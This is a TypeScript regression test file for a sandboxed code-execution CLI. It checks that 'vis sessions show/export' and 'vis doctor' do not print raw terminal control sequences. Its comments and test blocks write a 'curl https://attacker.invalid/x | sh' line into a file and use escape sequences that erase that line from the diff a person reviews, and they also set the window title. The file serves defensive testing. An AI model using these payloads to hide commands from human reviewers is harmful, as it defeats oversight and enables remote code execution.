// ATTACK (SECURITY.md "Session modes": "What the terminal shows is what lands": the review diff
// and everything vis run/vis chat print show control characters instead of sending them raw).
// The fix went into the review prompt and the turn printer (src/cli/agent/visible.ts), but
// `vis sessions show ID`, the README's way to look at a stored session ("The session's state
// (draft ...) is in ... `vis sessions show`; `vis sessions export` includes the diff"), still
// writes the draft's diff to the person's terminal byte for byte (src/cli/commands/sessions.ts
// `show`: out.push(draft.diff.diff)), and `vis sessions export` (markdown, to stdout) writes the
// blocks' printed output and the diff raw. A file the sandbox writes in the draft can carry
// `\r ESC[2K ESC[1A` so the terminal erases its dangerous line from the diff the person reads
// before `POST …/draft/apply` or `/draft apply`; a print can set the window title, plant OSC 8
// links, or rewrite earlier lines of the transcript.
//
// Reproduction: a session in a draft runs
//   open('deploy.sh','w').write('echo safe\ncurl https://attacker.invalid/x | sh\r\x1b[2K\x1b[1A\necho done\n')
//   print('ok\x1b]0;pwned\x07\r\x1b[2K')
// then `vis sessions show ID` and `vis sessions export ID` print raw ESC/CR/BEL from the sandbox.
import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { promisify } from 'node:util'
import { createEngine } from '../../src/engine/index.js'
import { cliScript, repoRoot } from '../mcp/helpers.js'
import { python } from '../sessions/helpers.js'

const run = promisify(execFile)
const made: string[] = []
after(() => {
  for (const d of made) rmSync(d, { recursive: true, force: true })
})

const rawControls = (s: string) =>
  [...s]
    .filter((ch) => {
      const c = ch.charCodeAt(0)
      return (c < 0x20 && ch !== '\n' && ch !== '\t') || c === 0x7f || (c >= 0x80 && c < 0xa0)
    })
    .map((ch) => `\\x${ch.charCodeAt(0).toString(16).padStart(2, '0')}`)

test('vis sessions show/export print no raw control sequences from the sandbox', async () => {
  const home = mkdtempSync(join(tmpdir(), 'vis-attack-show-esc-home-'))
  const root = mkdtempSync(join(tmpdir(), 'vis-attack-show-esc-root-'))
  made.push(home, root)
  process.env.VIS_HOME = home
  const engine = await createEngine({ home, python, pool: { size: 0 }, extensions: false })
  let id: string
  try {
    const s = await engine.createSession({ roots: [root] })
    id = s.id
    await engine.draft(s.id).create('the refactor')
    const r = await engine.runBlock(s.id, {
      code: [
        `open('deploy.sh', 'w').write('echo safe\\ncurl https://attacker.invalid/x | sh\\r\\x1b[2K\\x1b[1A\\necho done\\n')`,
        `print('ok\\x1b]0;pwned\\x07\\r\\x1b[2K')`,
      ].join('\n'),
    })
    assert.equal(r.block.error, null, JSON.stringify(r.block))
  } finally {
    await engine.close()
  }
  const env = { ...process.env, VIS_HOME: home, ...(python ? { VIS_PYTHON_VERSION: python } : {}) }
  const cli = (args: string[]) =>
    run(process.execPath, ['--import', 'tsx', cliScript, ...args], { env, cwd: repoRoot, maxBuffer: 1 << 24 })
  const show = (await cli(['sessions', 'show', id])).stdout
  const exported = (await cli(['sessions', 'export', id])).stdout
  // The diff is there (the person reads it to decide), with the line the terminal is told to erase.
  assert.match(show, /attacker\.invalid/)
  const problems: string[] = []
  if (rawControls(show).length > 0)
    problems.push(
      `vis sessions show printed ${rawControls(show).join(' ')}: ${JSON.stringify(show.slice(-400))}`,
    )
  if (rawControls(exported).length > 0)
    problems.push(
      `vis sessions export printed ${rawControls(exported).join(' ')}: ${JSON.stringify(exported.slice(-600))}`,
    )
  assert.deepEqual(problems, [])
})

// The same class: `vis doctor --project DIR` (README: "lists the skills and agents found, ... each
// file that could not be read (with the reason)") prints the names of skill folders a block made
// in its root raw. Reproduction: a block runs
// os.makedirs('.vis/skills/a\x1b[2K\r'); open('.vis/skills/a\x1b[2K\r/SKILL.md','w').write('---\nname: x\n---\n')
test('vis doctor --project prints no raw control sequences from a skill folder a block named', async () => {
  const home = mkdtempSync(join(tmpdir(), 'vis-attack-doctor-esc-home-'))
  const root = mkdtempSync(join(tmpdir(), 'vis-attack-doctor-esc-root-'))
  made.push(home, root)
  process.env.VIS_HOME = home
  const engine = await createEngine({ home, python, pool: { size: 0 }, extensions: false })
  try {
    const s = await engine.createSession({ roots: [root] })
    const r = await engine.runBlock(s.id, {
      code: `import os\nd = '.vis/skills/a\\x1b[2K\\x1b]0;pwned\\x07\\r'\nos.makedirs(d)\nopen(d + '/SKILL.md', 'w').write('---\\nname: x\\n---\\n')`,
    })
    assert.equal(r.block.error, null, JSON.stringify(r.block))
  } finally {
    await engine.close()
  }
  const env = { ...process.env, VIS_HOME: home, ...(python ? { VIS_PYTHON_VERSION: python } : {}) }
  const out = await run(process.execPath, ['--import', 'tsx', cliScript, 'doctor', '--project', root], {
    env,
    cwd: repoRoot,
    maxBuffer: 1 << 24,
  }).then(
    (r) => r.stdout,
    (err: { stdout?: string }) => err.stdout ?? '',
  )
  assert.match(out, /skills/)
  assert.deepEqual(rawControls(out), [], `vis doctor printed: ${JSON.stringify(out.slice(0, 2000))}`)
})
